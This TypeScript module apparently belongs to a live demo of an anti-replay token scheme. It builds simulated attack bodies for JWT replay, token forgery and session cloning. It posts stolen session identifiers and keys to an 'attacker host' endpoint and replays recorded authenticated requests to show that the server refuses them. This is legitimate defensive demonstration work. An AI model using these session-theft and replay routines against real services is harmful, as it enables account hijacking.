import type {
  CloneBody,
  JwtReplayBody,
  OtaForgeryBody,
  VerdictBody,
} from '@one-tick-ahead/api/contract/bodies'
import { ANSWER_LIMIT_MS, withTimeLimit } from '@one-tick-ahead/ota/client/probe'
import { joinHistory } from '@one-tick-ahead/ota/history'
import {
  NETWORK_FAILURE_STATUS,
  readCallResult,
  type SentRequest,
  whyNoAnswer,
} from '@/components/live-demo/monitors/call'
import type { AttackBody, MonitorRow } from '@/components/live-demo/run'
import { noAnswerWords, type Outcome, outcomeOf, wordsFor } from '@/components/live-demo/words'
import type { UserInfo } from '@/lib/demo/store'

/** Body of spec §7, call 6. */
export const jwtForgeryBody = (
  { jsessionID, token }: Pick<UserInfo, 'jsessionID' | 'token'>,
  url: string,
): JwtReplayBody => ({ jsessionID, jwt: token, url })

/** Body of spec §7, call 7. @param ota a token for a request id that the attacker does not get. */
export const otaForgeryBody = (
  { jsessionID }: Pick<UserInfo, 'jsessionID'>,
  ota: string,
  url: string,
): Omit<OtaForgeryBody, 'requestId'> => ({ jsessionID, ota, url })

/** Body of spec §7, call 8: everything a script in the page could steal. */
export const cloningBody = (user: UserInfo, url: string): Omit<CloneBody, 'deviceCookie'> => ({
  deviceID: user.deviceId,
  jsessionID: user.jsessionID,
  sessionKey: user.sessionkey,
  requestHistory: joinHistory(user.requestHistory),
  url,
})

/** How an attack ended. */
export interface Verdict {
  outcome: Outcome
  /** What the target answered, or 500 where there is no answer that can be read. */
  code: number
  message: string
  /** Whether the call itself failed. */
  isError?: boolean
}

const failed = (outcome: Outcome, message: string): Verdict => ({
  outcome,
  code: NETWORK_FAILURE_STATUS,
  message,
  isError: true,
})

/** Null unless the value is an answer of the attacker host. */
function readVerdict(value: unknown): VerdictBody | null {
  if (typeof value !== 'object' || value === null) return null
  if (!('message' in value) || typeof value.message !== 'string') return null
  if (!('statusCode' in value) || !Number.isInteger(value.statusCode)) return null
  return { message: value.message, statusCode: Number(value.statusCode) }
}

/** The attacker host's own answer when its target gave none. */
const HTTP_BAD_GATEWAY = 502

/** Sends a stolen body to the attacker host. Never rejects. */
export async function runAttack(
  fetchFn: typeof fetch,
  endpoint: string,
  body: AttackBody,
  signal: AbortSignal,
): Promise<Verdict> {
  try {
    const response = await fetchFn(endpoint, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      credentials: 'include',
      body: JSON.stringify(body),
      signal: withTimeLimit(signal, ANSWER_LIMIT_MS),
    })
    const verdict = readVerdict(await response.json().catch(() => null))
    if (!verdict) return failed('no-verdict', 'The answer of the attacker host could not be read.')
    const { statusCode: code, message } = verdict
    return { outcome: code === HTTP_BAD_GATEWAY ? 'no-answer' : outcomeOf(code), code, message }
  } catch (error) {
    const isCutOff = whyNoAnswer(error) === 'offline'
    const why = isCutOff
      ? 'This device is offline.'
      : 'The attacker host did not answer. Try again.'
    return failed('no-answer', why)
  }
}

/** A request that is older than this, in ms, would be refused for its age, not for being a replay. */
const RECORDED_FOR_MS = 10_000

/** The newest request that the server accepted and whose token is in time; null when there is none. */
export function newestRecorded(rows: readonly MonitorRow[], serverNow: number): SentRequest | null {
  const sent = rows.find((row) => row.status === 200 && row.sent)?.sent
  return sent && serverNow - sent.madeAt < RECORDED_FOR_MS ? sent : null
}

/** The recorded request as the panel shows it. */
export const recordedBody = ({ url, headers }: SentRequest): AttackBody => ({
  url,
  ...headers,
  Cookie: 'both, as recorded: the browser adds them, no script can read them',
})

/**
 * Sends a recorded request once more: address, token, request id, send log and, by the browser
 * itself, both cookies are those of the first time. Never rejects.
 */
export async function replay(
  fetchFn: typeof fetch,
  { url, headers }: SentRequest,
  signal: AbortSignal,
): Promise<Verdict> {
  try {
    const response = await fetchFn(url, {
      headers,
      credentials: 'include',
      cache: 'no-store',
      signal: withTimeLimit(signal, ANSWER_LIMIT_MS),
    })
    const { status, code, records, noAnswer } = await readCallResult(url, response)
    if (noAnswer) return failed('no-verdict', 'The answer could not be read.')
    if (status === 200) {
      const message = `Attack succeeded: the recorded request was accepted again, ${records} records read.`
      return { outcome: 'in', code: status, message }
    }
    const message = `Attack failed. ${wordsFor(code) || `The server answered ${status}.`}`
    // Refused for another reason, it says nothing of the second use.
    const outcome = code === 'ota_replayed' ? outcomeOf(status) : 'no-verdict'
    return { outcome, code: status, message }
  } catch (error) {
    const why = noAnswerWords[whyNoAnswer(error)]
    return failed('no-answer', `The recorded request got ${why}.`)
  }
}
